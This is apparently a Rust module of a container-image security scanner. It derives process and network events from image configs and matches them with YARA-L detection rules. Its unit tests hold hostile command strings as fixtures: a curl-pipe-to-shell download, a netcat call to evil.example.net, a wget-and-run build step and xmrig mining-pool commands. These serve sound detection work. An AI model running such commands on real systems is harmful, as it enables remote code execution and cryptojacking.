//! Image → UDM events. The rule engine (`crate::rules`) knows nothing of images; this
//! module turns what an image declares and contains into the Unified Data Model events
//! that runtime telemetry would produce if the image ran, so the same YARA-L rules fire
//! before it does. The mapping is documented in `docs/udm-mapping.md`.
//!
//! Each event carries its [`Location`] so a rule match becomes a finding that points
//! at the entrypoint, history step, env var or file it came from.

use crate::findings::{Evidence, Finding, Location, Severity};
use crate::image::Image;
use crate::rules::{Detection, Event, RuleSet};
use crate::shell;
use regex::Regex;
use serde_json::{json, Value};
use std::net::IpAddr;
use std::sync::OnceLock;

/// `metadata.product_name` of every event imgscan derives from an image.
pub const PRODUCT_NAME: &str = "imgscan";

/// A derived event and where in the image it came from.
#[derive(Debug, Clone, PartialEq)]
pub struct ImageEvent {
    pub event: Value,
    pub origin: Location,
    /// What the event was made from, for the finding's excerpt.
    pub excerpt: String,
    /// Line in the file it came from (a script's command).
    pub line: Option<u32>,
}

/// A host (name or literal IP) and optional port found in text.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Endpoint {
    pub host: String,
    pub port: Option<u16>,
    /// The URL scheme when it came from a URL (`stratum+tcp`, `http`).
    pub scheme: Option<String>,
}

fn url_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"(?i)\b([a-z][a-z0-9+.-]{1,20})://(?:[^@/\s'\x22]*@)?(\[[0-9a-f:.]+\]|[a-z0-9_.-]+)(?::(\d{1,5}))?",
        )
        .expect("static regex")
    })
}

fn host_port_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        // host:port where host is a dotted name with an alphabetic TLD or an IPv4 literal.
        Regex::new(
            r"(?i)(?:^|[\s='\x22(,])((?:[a-z0-9-]{1,63}\.)+[a-z]{2,24}|\d{1,3}(?:\.\d{1,3}){3}):(\d{1,5})\b",
        )
        .expect("static regex")
    })
}

/// Endpoints in a command line, env value or script: URLs (`scheme://host[:port]`)
/// and `host:port` pairs. Deduplicated, in order of appearance; at most 256.
pub fn endpoints_in(text: &str) -> Vec<Endpoint> {
    let mut out: Vec<Endpoint> = Vec::new();
    let mut push = |e: Endpoint| {
        if out.len() < 256 && !out.contains(&e) {
            out.push(e);
        }
    };
    let mut covered: Vec<(usize, usize)> = Vec::new();
    for c in url_re().captures_iter(text) {
        let whole = c.get(0).expect("match");
        covered.push((whole.start(), whole.end()));
        let host = c[2]
            .trim_matches(|ch| ch == '[' || ch == ']')
            .to_ascii_lowercase();
        if !is_plausible_host(&host) {
            continue;
        }
        push(Endpoint {
            host,
            port: c.get(3).and_then(|p| p.as_str().parse().ok()),
            scheme: Some(c[1].to_ascii_lowercase()),
        });
    }
    for c in host_port_re().captures_iter(text) {
        let m = c.get(1).expect("group");
        if covered
            .iter()
            .any(|&(s, e)| m.start() >= s && m.start() < e)
        {
            continue;
        }
        let host = m.as_str().to_ascii_lowercase();
        if !is_plausible_host(&host) {
            continue;
        }
        push(Endpoint {
            host,
            port: c[2].parse().ok(),
            scheme: None,
        });
    }
    out
}

fn is_plausible_host(h: &str) -> bool {
    if h.parse::<IpAddr>().is_ok() {
        return true;
    }
    h.contains('.')
        && !h.starts_with('.')
        && !h.ends_with('.')
        && h.rsplit('.')
            .next()
            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
}

fn base(event_type: &str, product_event_type: &str, description: &str) -> Value {
    json!({
        "metadata": {
            "event_type": event_type,
            "product_name": PRODUCT_NAME,
            "product_event_type": product_event_type,
            "description": description,
        }
    })
}

/// A `PROCESS_LAUNCH` event.
pub fn process_launch(
    product_event_type: &str,
    description: &str,
    full_path: &str,
    command_line: &str,
    sha256: Option<&str>,
) -> Value {
    let mut v = base("PROCESS_LAUNCH", product_event_type, description);
    let mut file = json!({ "full_path": full_path });
    if let Some(h) = sha256 {
        file["sha256"] = json!(h.strip_prefix("sha256:").unwrap_or(h));
    }
    v["principal"] = json!({ "process": { "file": file } });
    v["target"] =
        json!({ "process": { "command_line": command_line, "file": { "full_path": full_path } } });
    v
}

/// A `NETWORK_DNS` event asking for `name`.
pub fn network_dns(product_event_type: &str, description: &str, name: &str) -> Value {
    let mut v = base("NETWORK_DNS", product_event_type, description);
    v["network"] =
        json!({ "application_protocol": "DNS", "dns": { "questions": [ { "name": name } ] } });
    v
}

/// A `NETWORK_CONNECTION` event to an endpoint, from `process_path` when known.
pub fn network_connection(
    product_event_type: &str,
    description: &str,
    endpoint: &Endpoint,
    process_path: Option<&str>,
) -> Value {
    let mut v = base("NETWORK_CONNECTION", product_event_type, description);
    let mut target = json!({});
    if endpoint.host.parse::<IpAddr>().is_ok() {
        target["ip"] = json!([endpoint.host]);
    } else {
        target["hostname"] = json!(endpoint.host);
    }
    if let Some(p) = endpoint.port {
        target["port"] = json!(p);
    }
    v["target"] = target;
    if let Some(p) = process_path {
        v["principal"] = json!({ "process": { "file": { "full_path": p } } });
    }
    if let Some(s) = &endpoint.scheme {
        v["network"] = json!({ "application_protocol": s.to_ascii_uppercase() });
    }
    v
}

/// Events for the network side of one piece of text (command, env value, script):
/// a `NETWORK_DNS` per host name and a `NETWORK_CONNECTION` per endpoint.
pub fn network_events(
    text: &str,
    product_event_type: &str,
    description: &str,
    process_path: Option<&str>,
    origin: &Location,
) -> Vec<ImageEvent> {
    let mut out = Vec::new();
    for ep in endpoints_in(text) {
        let excerpt = match ep.port {
            Some(p) => format!("{}:{p}", ep.host),
            None => ep.host.clone(),
        };
        if ep.host.parse::<IpAddr>().is_err() {
            out.push(ImageEvent {
                line: None,
                event: network_dns(product_event_type, description, &ep.host),
                origin: origin.clone(),
                excerpt: ep.host.clone(),
            });
        }
        out.push(ImageEvent {
            line: None,
            event: network_connection(product_event_type, description, &ep, process_path),
            origin: origin.clone(),
            excerpt,
        });
    }
    out
}

/// An executable file in the image, as a candidate process.
#[derive(Debug, Clone)]
pub struct Executable {
    pub path: String,
    pub sha256: Option<String>,
    pub origin: Location,
}

/// Where `prog` runs from in the image: a path as given (resolved by `resolve`), a bare
/// name through `path_env`; the name itself when the image does not have it.
pub fn locate(prog: &str, path_env: &str, resolve: &dyn Fn(&str) -> Option<String>) -> String {
    if prog.contains('/') {
        return resolve(prog).unwrap_or_else(|| prog.to_string());
    }
    path_env
        .split(':')
        .filter(|d| !d.is_empty())
        .find_map(|d| resolve(&format!("{}/{prog}", d.trim_end_matches('/'))))
        .unwrap_or_else(|| prog.to_string())
}

/// Events for everything an image declares and contains:
/// - `PROCESS_LAUNCH` for the start command (entrypoint + cmd; each command of a shell
///   script as its own event), `principal.process.file.full_path` = the path the
///   program resolves to in the image (via `resolve`), `target.process.command_line` =
///   the command line;
/// - `PROCESS_LAUNCH` for each `RUN` step of the history (`product_event_type`
///   `image.build.run`: build time);
/// - `PROCESS_LAUNCH` candidates for executable files (`image.file.executable`);
/// - `NETWORK_DNS` / `NETWORK_CONNECTION` for hosts and `host:port` pairs in those
///   commands, in env values and in `texts` (scripts and configs the analyzers read).
pub fn image_events(
    image: &Image,
    resolve: &dyn Fn(&str) -> Option<String>,
    executables: &[Executable],
    texts: &[(String, Location)],
) -> Vec<ImageEvent> {
    let cfg = &image.config;
    let path_env = cfg
        .env_var("PATH")
        .unwrap_or("/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin");
    let locate = |prog: &str| locate(prog, path_env, resolve);
    let mut out = Vec::new();

    let field = if cfg.entrypoint.is_empty() {
        "Cmd"
    } else {
        "Entrypoint+Cmd"
    };
    let origin = Location::Config {
        field: field.to_string(),
    };
    for command in shell::start_commands(&cfg.entrypoint, &cfg.cmd) {
        let words = shell::words(&command);
        let Some(prog) = words.first() else { continue };
        let full_path = locate(prog);
        out.push(ImageEvent {
            line: None,
            event: process_launch("image.start", "start command", &full_path, &command, None),
            origin: origin.clone(),
            excerpt: command.clone(),
        });
        out.extend(network_events(
            &command,
            "image.start",
            "start command",
            Some(&full_path),
            &origin,
        ));
    }

    for (step, h) in cfg.history.iter().enumerate() {
        let Some(script) = shell::history_script(&h.created_by) else {
            continue;
        };
        let origin = Location::History { step };
        for command in shell::split_commands(script) {
            let words = shell::words(&command);
            let Some(prog) = words.first() else { continue };
            let full_path = if prog.contains('/') {
                prog.clone()
            } else {
                locate(prog)
            };
            out.push(ImageEvent {
                line: None,
                event: process_launch(
                    "image.build.run",
                    "build-time RUN step",
                    &full_path,
                    &command,
                    None,
                ),
                origin: origin.clone(),
                excerpt: command.clone(),
            });
            out.extend(network_events(
                &command,
                "image.build.run",
                "build-time RUN step",
                Some(&full_path),
                &origin,
            ));
        }
    }

    for (i, kv) in cfg.env.iter().enumerate() {
        let origin = Location::Config {
            field: format!("Env[{i}]"),
        };
        let value = kv.split_once('=').map(|(_, v)| v).unwrap_or("");
        out.extend(network_events(
            value,
            "image.env",
            "environment variable",
            None,
            &origin,
        ));
    }

    for exe in executables {
        let path = format!("/{}", exe.path.trim_start_matches('/'));
        out.push(ImageEvent {
            line: None,
            event: process_launch(
                "image.file.executable",
                "executable file in the image",
                &path,
                &path,
                exe.sha256.as_deref(),
            ),
            origin: exe.origin.clone(),
            excerpt: path.clone(),
        });
    }

    for (text, origin) in texts {
        out.extend(network_events(
            text,
            "image.file.content",
            "host named in a file",
            None,
            origin,
        ));
    }
    out
}

/// Events for the commands of a file the image runs (a script the start command runs, a
/// crontab, a unit, ...): a `PROCESS_LAUNCH` per command (`principal.process.file.full_path`
/// = its program resolved by `locate`), and the network events of its text, each pointing
/// at the file and line.
pub fn script_events(
    commands: &[crate::shell::ShellCommand],
    product_event_type: &str,
    description: &str,
    origin: &Location,
    locate: &dyn Fn(&str) -> String,
) -> Vec<ImageEvent> {
    let mut out = Vec::new();
    for c in commands {
        let Some(prog) = crate::analyzers::config::program(&c.words) else {
            continue;
        };
        let full_path = locate(prog);
        out.push(ImageEvent {
            event: process_launch(product_event_type, description, &full_path, &c.text, None),
            origin: origin.clone(),
            excerpt: c.text.clone(),
            line: Some(c.line),
        });
        for mut e in network_events(
            &c.text,
            product_event_type,
            description,
            Some(&full_path),
            origin,
        ) {
            e.line = Some(c.line);
            out.push(e);
        }
    }
    out
}

// ------------------------------------------------------------ rule matches → findings

pub(crate) fn attack_ids(meta: &std::collections::BTreeMap<String, String>) -> Vec<String> {
    let mut out = vec![];
    for (k, v) in meta {
        if !k.starts_with("mitre_attack") && k != "reference" {
            continue;
        }
        // ATT&CK URLs spell sub-techniques as /techniques/T1204/003/.
        let v = v.replace("/techniques/", " ").replace('/', ".");
        for word in v.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.')) {
            let w = word.trim_matches('.');
            let is_id = w.len() >= 5
                && w.starts_with('T')
                && w[1..5].bytes().all(|b| b.is_ascii_digit())
                && (w.len() == 5
                    || (w.as_bytes()[5] == b'.' && w[6..].bytes().all(|b| b.is_ascii_digit())));
            if is_id && !out.contains(&w.to_string()) {
                out.push(w.to_string());
            }
        }
    }
    out
}

/// A detection as a finding: id `YARAL-<rule>`, severity from `meta` (MEDIUM when
/// absent), title from `meta.description`, ATT&CK ids from the `mitre_attack*` and
/// `reference` meta values, one evidence per matched event from `evidence_for(index,
/// outcomes)` (outcome values joined as `k=v`, at most 400 bytes).
pub fn detection_finding(d: &Detection, evidence_for: &dyn Fn(usize, &str) -> Evidence) -> Finding {
    let severity = d
        .severity
        .as_deref()
        .and_then(|s| s.parse().ok())
        .unwrap_or(Severity::Medium);
    let description = d.meta.get("description").cloned().unwrap_or_default();
    let title = if description.is_empty() {
        format!("YARA-L rule {} matched", d.rule)
    } else {
        description.clone()
    };
    let mut excerpt: String = d
        .outcomes
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join(" ");
    if excerpt.len() > 400 {
        let mut cut = 400;
        while !excerpt.is_char_boundary(cut) {
            cut -= 1;
        }
        excerpt.truncate(cut);
        excerpt.push_str("...");
    }
    Finding {
        id: format!("YARAL-{}", d.rule),
        title,
        severity,
        description: format!(
            "YARA-L rule {} matched {} event(s). {description}",
            d.rule,
            d.events.len()
        )
        .trim_end()
        .to_string(),
        remediation: "Investigate the host and process in the matched events; isolate the workload if the activity is not expected.".into(),
        attack: attack_ids(&d.meta),
        evidence: d
            .events
            .iter()
            .map(|&i| evidence_for(i, &excerpt))
            .collect(),
    }
}

/// Run `rules` over an image's derived events. One finding per rule that matched,
/// listing every event that made it fire (by where it came from in the image), plus the
/// engine's limit notes (which make the scan incomplete).
pub fn rule_findings(rules: &RuleSet, events: &[ImageEvent]) -> (Vec<Finding>, Vec<String>) {
    let mut eval = rules.evaluator();
    let mut detections: Vec<Detection> = Vec::new();
    let mut notes = Vec::new();
    for (i, ev) in events.iter().enumerate() {
        match Event::from_json(ev.event.clone()) {
            Ok(e) => detections.extend(eval.push(i, &e)),
            // Derived events are ours; a failure here is a bug worth reporting, not hiding.
            Err(m) => notes.push(format!(
                "derived event {i} was not accepted by the rule engine: {m}"
            )),
        }
    }
    let (rest, limit_notes) = eval.finish();
    detections.extend(rest);
    notes.extend(limit_notes);
    let mut by_rule: Vec<Finding> = Vec::new();
    for d in &detections {
        let f = detection_finding(d, &|i, outcomes| {
            let ev = &events[i];
            let kind = ev.event["metadata"]["event_type"]
                .as_str()
                .unwrap_or("event");
            let excerpt = if outcomes.is_empty() {
                format!("{kind}: {}", ev.excerpt)
            } else {
                format!("{kind}: {} ({outcomes})", ev.excerpt)
            };
            Evidence {
                line: ev.line,
                location: ev.origin.clone(),
                offset: None,
                signature: d.rule.clone(),
                excerpt: crate::findings::excerpt(excerpt.as_bytes(), 300),
            }
        });
        match by_rule.iter_mut().find(|g| g.id == f.id) {
            Some(g) => {
                for e in f.evidence {
                    if !g.evidence.contains(&e) {
                        g.evidence.push(e);
                    }
                }
            }
            None => by_rule.push(f),
        }
    }
    (by_rule, notes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::image::{HistoryEntry, ImageConfig, Platform};

    fn ep(host: &str, port: Option<u16>, scheme: Option<&str>) -> Endpoint {
        Endpoint {
            host: host.into(),
            port,
            scheme: scheme.map(str::to_string),
        }
    }

    #[test]
    fn finds_urls_and_host_ports() {
        assert_eq!(
            endpoints_in("xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4A..."),
            vec![ep("pool.minexmr.com", Some(4444), Some("stratum+tcp"))]
        );
        assert_eq!(
            endpoints_in("curl -s http://user:pw@1.2.3.4/x.sh | sh; nc evil.example.net:9999"),
            vec![
                ep("1.2.3.4", None, Some("http")),
                ep("evil.example.net", Some(9999), None)
            ]
        );
        assert_eq!(
            endpoints_in("--url=gulf.moneroocean.stream:10128"),
            vec![ep("gulf.moneroocean.stream", Some(10128), None)]
        );
        // Not hosts: file names, versions, times.
        assert!(endpoints_in("cp config.json /etc/x; sleep 10:30; v1.2:3").is_empty());
    }

    fn image(entrypoint: &[&str], cmd: &[&str], env: &[&str], history: &[&str]) -> Image {
        let s = |a: &[&str]| a.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        Image {
            reference: "t".into(),
            manifest_digest: String::new(),
            config_digest: String::new(),
            platform: Platform::default(),
            config: ImageConfig {
                entrypoint: s(entrypoint),
                cmd: s(cmd),
                env: s(env),
                history: history
                    .iter()
                    .map(|h| HistoryEntry {
                        created_by: h.to_string(),
                        ..Default::default()
                    })
                    .collect(),
                ..Default::default()
            },
            layers: vec![],
            names: vec![],
            notes: vec![],
        }
    }

    #[test]
    fn start_command_resolves_through_path() {
        let img = image(
            &["/bin/sh", "-c"],
            &["cd /opt && xmrig -o stratum+tcp://pool.minexmr.com:4444"],
            &["PATH=/opt/bin:/usr/bin"],
            &[],
        );
        let resolve = |p: &str| (p == "/opt/bin/xmrig").then(|| p.to_string());
        let ev = image_events(&img, &resolve, &[], &[]);
        let launches: Vec<_> = ev
            .iter()
            .filter(|e| e.event["metadata"]["event_type"] == "PROCESS_LAUNCH")
            .collect();
        assert_eq!(launches.len(), 2, "{ev:#?}");
        assert_eq!(
            launches[1].event["principal"]["process"]["file"]["full_path"],
            "/opt/bin/xmrig"
        );
        assert_eq!(
            launches[1].event["target"]["process"]["command_line"],
            "xmrig -o stratum+tcp://pool.minexmr.com:4444"
        );
        let conn = ev
            .iter()
            .find(|e| e.event["metadata"]["event_type"] == "NETWORK_CONNECTION")
            .expect("connection event");
        assert_eq!(conn.event["target"]["port"], 4444);
        assert_eq!(conn.event["target"]["hostname"], "pool.minexmr.com");
        assert!(ev
            .iter()
            .any(|e| e.event["network"]["dns"]["questions"][0]["name"] == "pool.minexmr.com"));
    }

    #[test]
    fn history_env_and_executables() {
        let img = image(
            &[],
            &[],
            &["POOL=10.1.2.3:3333"],
            &[
                "/bin/sh -c #(nop)  CMD [\"sh\"]",
                "/bin/sh -c wget -q http://dl.example.org/m.sh && sh m.sh",
            ],
        );
        let exe = Executable {
            path: "usr/bin/kdevtmpfsi".into(),
            sha256: Some(format!("sha256:{}", "ab".repeat(32))),
            origin: Location::Scan,
        };
        let ev = image_events(&img, &|_| None, &[exe], &[]);
        let runs: Vec<_> = ev
            .iter()
            .filter(|e| {
                e.event["metadata"]["product_event_type"] == "image.build.run"
                    && e.event["metadata"]["event_type"] == "PROCESS_LAUNCH"
            })
            .map(|e| (e.origin.clone(), e.excerpt.clone()))
            .collect();
        assert_eq!(
            runs,
            vec![
                (
                    Location::History { step: 1 },
                    "wget -q http://dl.example.org/m.sh".to_string()
                ),
                (Location::History { step: 1 }, "sh m.sh".to_string()),
            ]
        );
        let env_conn = ev
            .iter()
            .find(|e| matches!(&e.origin, Location::Config { field } if field == "Env[0]"))
            .expect("env event");
        assert_eq!(env_conn.event["target"]["ip"][0], "10.1.2.3");
        let exe_ev = ev.last().unwrap();
        assert_eq!(
            exe_ev.event["principal"]["process"]["file"]["full_path"],
            "/usr/bin/kdevtmpfsi"
        );
        assert_eq!(
            exe_ev.event["principal"]["process"]["file"]["sha256"],
            "ab".repeat(32)
        );
    }

    #[test]
    fn seed_rule_flags_miner_entrypoint_and_stratum_cmd_not_clean_images() {
        let rules = RuleSet::embedded_default();
        let seed = "YARAL-t1204_003_malicious_image_execution";
        let run = |img: &Image, resolve: &dyn Fn(&str) -> Option<String>| {
            let ev = image_events(img, resolve, &[], &[]);
            let (f, notes) = rule_findings(&rules, &ev);
            assert!(notes.is_empty(), "{notes:?}");
            f
        };
        let miner = image(&["xmrig"], &[], &["PATH=/usr/local/bin:/usr/bin"], &[]);
        let f = run(&miner, &|p: &str| {
            (p == "/usr/local/bin/xmrig").then(|| p.to_string())
        });
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].id, seed);
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(
            f[0].evidence[0].location,
            Location::Config {
                field: "Entrypoint+Cmd".into()
            }
        );
        assert!(
            f[0].attack.contains(&"T1204.003".to_string()),
            "{:?}",
            f[0].attack
        );

        let pool = image(
            &[],
            &[
                "sh",
                "-c",
                "./run --url stratum+tcp://pool.minexmr.com:4444",
            ],
            &[],
            &[],
        );
        let f = run(&pool, &|_| None);
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].severity, Severity::High);
        // The command line, the connection to port 4444 and the DNS question all match.
        assert_eq!(f[0].evidence.len(), 3, "{:#?}", f[0].evidence);

        let clean = image(
            &["/docker-entrypoint.sh"],
            &["nginx", "-g", "daemon off;"],
            &["NGINX_VERSION=1.25.3"],
            &["/bin/sh -c apt-get update && apt-get install -y nginx"],
        );
        assert!(run(&clean, &|_| None).is_empty());
    }
}
